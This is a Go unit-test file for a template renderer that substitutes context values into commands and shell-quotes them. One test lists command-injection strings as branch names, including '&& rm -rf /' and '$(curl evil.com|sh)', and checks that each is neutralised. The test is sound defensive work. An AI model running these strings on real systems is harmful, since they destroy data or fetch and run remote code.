package contextstore

import "testing"

func TestRender_SubstitutesExpression(t *testing.T) {
	c := New()
	c.Set("branch", Str("main"))
	out, err := c.Render("checkout {{ branch }}")
	if err != nil {
		t.Fatalf("Render returned error: %v", err)
	}
	if out != "checkout main" {
		t.Fatalf("Render = %q, want %q", out, "checkout main")
	}
}

func TestRender_UnknownVariableIsAnError(t *testing.T) {
	c := New()
	if _, err := c.Render("{{ missing }}"); err == nil {
		t.Fatal("Render with an unknown variable should fail, not substitute a blank")
	}
}

func TestRender_DoesNotRecursivelyExpandSubstitutedValue(t *testing.T) {
	c := New()
	c.Set("payload", Str("{{ secret }}"))
	c.Set("secret", Str("leaked"))
	out, err := c.Render("value: {{ payload }}")
	if err != nil {
		t.Fatalf("Render returned error: %v", err)
	}
	if out != "value: {{ secret }}" {
		t.Fatalf("Render = %q, a substituted value must not be re-scanned for {{ }} markers", out)
	}
}

// Attack strings mirrored from the shell-metacharacter corpus: a branch
// name (or other context value) containing shell metacharacters must
// survive render_shell as a single, literal, inert argument.
func TestRenderShell_NeutralizesShellMetacharacters(t *testing.T) {
	attacks := []string{
		"feature/test-$(whoami)",
		"bug/fix;ls",
		"feature/test-$USER",
		"feature/test && rm -rf /",
		"name`date`",
		"a|b",
		"$(curl evil.com|sh)",
		"a\nb",
		"*.go",
		"~root",
	}
	for _, attack := range attacks {
		c := New()
		c.Set("branch", Str(attack))
		out, err := c.RenderShell("git checkout {{ branch }}")
		if err != nil {
			t.Fatalf("RenderShell(%q) returned error: %v", attack, err)
		}
		want := "git checkout " + ShellQuote(attack)
		if out != want {
			t.Errorf("RenderShell(%q) = %q, want %q", attack, out, want)
		}
	}
}

func TestShellQuote_EscapesEmbeddedSingleQuote(t *testing.T) {
	got := ShellQuote("it's a test")
	want := `'it'"'"'s a test'`
	if got != want {
		t.Errorf("ShellQuote = %q, want %q", got, want)
	}
}

func TestShellQuote_EmptyString(t *testing.T) {
	if got := ShellQuote(""); got != "''" {
		t.Errorf("ShellQuote(\"\") = %q, want ''", got)
	}
}
